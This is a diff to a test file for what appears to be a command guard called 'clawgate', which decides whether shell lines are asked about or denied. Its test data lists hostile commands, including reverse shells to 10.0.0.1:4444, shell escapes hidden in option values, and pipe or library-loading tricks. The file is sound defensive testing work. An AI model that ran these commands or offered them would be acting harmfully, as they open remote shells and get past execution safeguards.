@@ -14,9 +14,9 @@ from clawgate.validators.staged import StagedPayload
 @pytest.mark.parametrize(("line", "expected", "rule"), [
     # a shell named as an argument or option value
     ("aa-exec /bin/sh", ASK, None),
-    ("agetty -l /bin/sh -o -p -a root tty", ASK, "CG-ESC-001"),
+    ("agetty -l /bin/sh -o -p -a root tty", DENY, "CG-ESC-002"),
     ("newtool --shell=/usr/bin/zsh", ASK, "CG-ESC-001"),
-    ("man '-H/bin/sh #' man", ASK, None),
+    ("man '-H/bin/sh #' man", DENY, None),
     ("busctl --address=unixexec:path=/bin/sh,argv1=-c", ASK, "CG-ESC-001"),
     ("nc -e /bin/sh 10.0.0.1 4444", DENY, "CG-ESC-001"),
     ("socat tcp:10.0.0.1:4444 exec:'bash -li',pty", DENY, "CG-ESC-001"),
@@ -30,17 +30,17 @@ from clawgate.validators.staged import StagedPayload
     ("restic --password-command='/opt/x' backup", ASK, "CG-ESC-002"),
     ("rsync -e 'sh -c id' a b:", DENY, "CG-ESC-001"),
     ("unison -sshcmd x --rsh='/opt/x' a b", ASK, "CG-ESC-002"),
-    ("tcpdump -i lo -w x -G 1 -z /tmp/x", ASK, "CG-ESC-002"),
+    ("tcpdump -i lo -w x -G 1 -z /tmp/x", DENY, "CG-ESC-002"),
     ("zip out.zip notes.txt -T -TT 'id #'", ASK, "CG-ESC-002"),
-    ("sort --compress-program=/tmp/x big.txt", ASK, "CG-ESC-002"),
-    ("rg --pre ./x TODO", ASK, "CG-ESC-002"),
+    ("sort --compress-program=/tmp/x big.txt", DENY, "CG-ESC-002"),
+    ("rg --pre ./x TODO", DENY, "CG-ESC-002"),
     ("split --filter='gzip > $FILE.gz' notes.txt", ASK, "CG-ESC-002"),
     ("busctl --address=unixexec:path=/usr/bin/id", ASK, "CG-ESC-002"),
     ("rpm --eval '%(id)'", ASK, "CG-ESC-002"),
     ("service ../../usr/bin/id", ASK, "CG-ESC-001"),
-    ("psql -o'|id>/tmp/foo'", ASK, "CG-ESC-003"),
-    ("sysctl 'kernel.core_pattern=|/tmp/x'", ASK, "CG-ESC-003"),
-    ("openssl req -engine ./lib.so", ASK, "CG-ESC-004"),
+    ("psql -o'|id>/tmp/foo'", DENY, "CG-ESC-003"),
+    ("sysctl 'kernel.core_pattern=|/tmp/x'", DENY, "CG-ESC-003"),
+    ("openssl req -engine ./lib.so", DENY, "CG-ESC-002"),
     ("ssh-keygen -D ./pkcs11.so", ASK, "CG-ESC-004"),
     ("ffmpeg -i in.wav -af ladspa=file=./x.so out.wav", ASK, "CG-ESC-004"),
     ("pdflatex --shell-escape doc.tex", ASK, "CG-ESC-005"),
@@ -48,11 +48,11 @@ from clawgate.validators.staged import StagedPayload
     # settings and environment naming commands
     ("git -c core.pager='id' log", ASK, "CG-ESC-006"),
     ("git -c alias.x='!id' x", ASK, "CG-ESC-006"),
-    ("git -c core.sshCommand='sh -c id' fetch", ASK, "CG-ESC-006"),
+    ("git -c core.sshCommand='sh -c id' fetch", DENY, "CG-ESC-006"),
     ("git --exec-path=. x", ASK, "CG-ESC-006"),
     ("git config --global core.fsmonitor 'id'", DENY, "CG-PROT-002"),
     ("hg --config alias.x='!id' x", ASK, "CG-ESC-006"),
-    ("ssh '-oProxyCommand=\"touch /tmp/foo\"' foo@foo", ASK, "CG-ESC-006"),
+    ("ssh '-oProxyCommand=\"touch /tmp/foo\"' foo@foo", DENY, "CG-ESC-006"),
     ("apt-get update -o APT::Update::Pre-Invoke::=id", ASK, "CG-ESC-006"),
     ("PAGER='sh -c \"exec sh 0<&1\"' git -p help", ASK, None),
     ("LESSOPEN='|/tmp/x %s' less notes.txt", ASK, "CG-ESC-007"),
@@ -131,8 +131,11 @@ def test_shell_argument_direct() -> None:
 
 def test_command_option_unwraps_the_value() -> None:
     verdict = CommandOption().check(parse_one("tar -cf x.tar --to-command='bash -i' d"), CTX)
-    assert verdict.outcome is ASK
+    assert verdict.outcome is Outcome.DENY
     assert verdict.nested == ("bash -i",)
+    helper = CommandOption().check(parse_one("tar -cf x.tar --to-command=lzbench d"), CTX)
+    assert helper.outcome is ASK
+    assert helper.nested == ("lzbench",)
 
 
 def test_staged_payload_needs_a_later_use() -> None:
